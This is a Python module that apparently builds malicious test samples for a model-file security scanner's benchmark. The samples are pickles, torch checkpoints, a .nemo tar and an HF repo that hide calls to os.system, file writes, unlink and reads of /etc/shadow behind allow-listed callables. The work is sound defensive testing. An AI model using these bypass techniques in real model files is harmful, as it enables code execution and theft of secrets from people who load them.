"""Malicious samples found by issue #21's adversarial review of the scanner.

Each hides its call behind names that are on the allow-list: an attribute read with
``getattr`` from an allowed class (``PosixPath.write_text``) handed to an allowed callable
that calls what it is given (``torch._tensor._rebuild_from_type_v2`` calls ``func(*args)`` at
load time, NumPy's random-state constructors call their bit-generator constructor,
``defaultdict`` its factory, ``functools.partial`` whatever its state says), a callable that is
safe only with checked arguments (``getattr``, the ufunc rebuilder) passed on so that its
arguments go unchecked, a dangerous method kept for later (``DataFrame.eval`` as a
``FunctionTransformer``'s function), ``torch.load`` of a ``torch.save`` zip held as bytes
(``torch.storage._load_from_bytes``), ``torch.fx``'s graph-module rebuilder (it executes
source), a device node in a ``.nemo`` tar, and ``auto_map`` in the sub-configuration of a
composite model.
"""

from __future__ import annotations

import io
import struct
import tarfile

from benchmarks.corpus import build as b
from benchmarks.corpus.build_more import tar_with
from benchmarks.corpus.folders import hf_repository
from benchmarks.corpus.sample import ECHO, Sample
from benchmarks.corpus.stubs import Tensor, storages, torch_pickle

_REBUILD = ("torch._tensor", "_rebuild_from_type_v2")
_PATH = ("pathlib", "PosixPath")


def _g(module: str, name: str) -> bytes:
    """STACK_GLOBAL of constant strings."""
    return b.sbu(module) + b.sbu(name) + b"\x93"


def _attr(owner: tuple[str, str], name: str) -> bytes:
    """getattr(owner, name) by REDUCE."""
    return _g("builtins", "getattr") + _g(*owner) + b.sbu(name) + b"\x86R"


def _pickles() -> dict[str, tuple[bytes, str]]:
    path = _g(*_PATH) + b.sbu("/tmp/sai-corpus") + b"\x85R"
    write = _attr(_PATH, "write_text")
    return {
        "rebuild-calls-attribute": (
            _g(*_REBUILD) + b"(" + write + _g(*_PATH) + path + b.sbu(ECHO) + b"\x86}tR.",
            "allowed call of a getattr attribute",
        ),
        "random-state-ctor": (
            _g("numpy.random._pickle", "__generator_ctor")
            + b.sbu("/etc/passwd")
            + _attr(_PATH, "read_bytes")
            + b"\x86R.",
            "constructor callback is an attribute",
        ),
        "rebuild-passes-getattr": (
            _g(*_REBUILD) + b"(" + _g("builtins", "getattr") + _g(*_PATH) + b"(" + _g(*_PATH)
            + b.sbu("unlink") + b"t}tR.",
            "arg-ruled callable passed on",
        ),
        "rebuild-passes-ufunc-rebuilder": (
            _g(*_REBUILD) + b"(" + _g("numpy._core", "_ufunc_reconstruct") + _g(*_PATH)
            + b.sbu("os") + b.sbu("system") + b"\x86}tR.",
            "ufunc rebuilder resolves os.system",
        ),
        "defaultdict-getattr": (
            _g("collections", "defaultdict") + _g("builtins", "getattr") + b"\x85R.",
            "defaultdict factory is getattr",
        ),
        "partial-state-swap": (
            _g("functools", "partial") + _g("numpy", "add") + b"\x85R"
            + b"(" + _g("builtins", "getattr") + _g(*_PATH) + b.sbu("write_text") + b"\x86}Nt"
            + b"b.",
            "partial's BUILD swaps its callable",
        ),
        "transformer-keeps-eval": (
            _g("sklearn.preprocessing._function_transformer", "FunctionTransformer")
            + b")\x81}" + b.sbu("func") + _attr(("pandas", "DataFrame"), "eval")
            + b.sbu("kw_args") + b"}" + b.sbu("expr") + b.sbu(ECHO) + b"s" + b"ub.",
            "dangerous method kept as a function",
        ),
        "storage-from-file": (
            _attr(("torch", "UntypedStorage"), "from_file") + b"(" + b.sbu("/etc/shadow")
            + b"\x88K\x10tR.",
            "attribute that reads a file",
        ),
    }  # fmt: skip


def review_malicious() -> list[Sample]:
    """Every malicious sample of the review round."""
    out = [
        Sample(f"review/{name}.pkl", b.proto(4, body), True, technique)
        for name, (body, technique) in _pickles().items()
    ]
    state = {"w": Tensor("0", (2,))}
    inner = b.torch_zip(b.call_pickle("os", "system", ECHO), storages(state))
    from_bytes = _g("torch.storage", "_load_from_bytes") + b"B" + struct.pack("<I", len(inner))
    out.append(
        Sample(
            "review/tensor-from-bytes.pkl",
            b.proto(4, from_bytes + inner + b"\x85R."),
            True,
            "torch.load of a nested torch.save zip",
        )
    )
    fx = b.call_pickle(
        "torch.fx.graph_module", "reduce_graph_module", f"import os\nos.system({ECHO!r})"
    )
    out.append(Sample("review/fx-graph-module.pkl", fx, True, "torch.fx executes source"))
    evil = _pickles()["rebuild-calls-attribute"][0]
    weights = b.torch_zip(b.proto(2, evil), storages(state))
    out.append(Sample("review/checkpoint-attribute.pt", weights, True, "torch zip, attribute call"))
    clean = b.torch_zip(torch_pickle(state), storages(state))
    nemo = tar_with([("model_config.yaml", b"name: asr\n", "file"), ("w.ckpt", clean, "file")])
    out.append(Sample("review/device.nemo", _with_device(nemo), True, "tar device node"))
    nested = {"model_type": "llava", "text_config": {"auto_map": {"AutoModel": "modeling_x.X"}}}
    repo = hf_repository(nested) | {"modeling_x.py": f"import os\nos.system({ECHO!r})\n".encode()}
    out.append(Sample("review/hf-nested-auto-map", b"", True, "nested auto_map", repo))
    return out


def _with_device(tar: bytes) -> bytes:
    """``tar`` with a character device member (``/dev/mem``'s numbers) added at the end."""
    with tarfile.open(fileobj=io.BytesIO(tar), mode="r") as source:
        members = [(info, source.extractfile(info)) for info in source.getmembers()]
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for info, handle in members:
            archive.addfile(info, handle)
        device = tarfile.TarInfo("mem")
        device.type, device.devmajor, device.devminor = tarfile.CHRTYPE, 1, 1
        archive.addfile(device)
    return buffer.getvalue()


__all__ = ["review_malicious"]
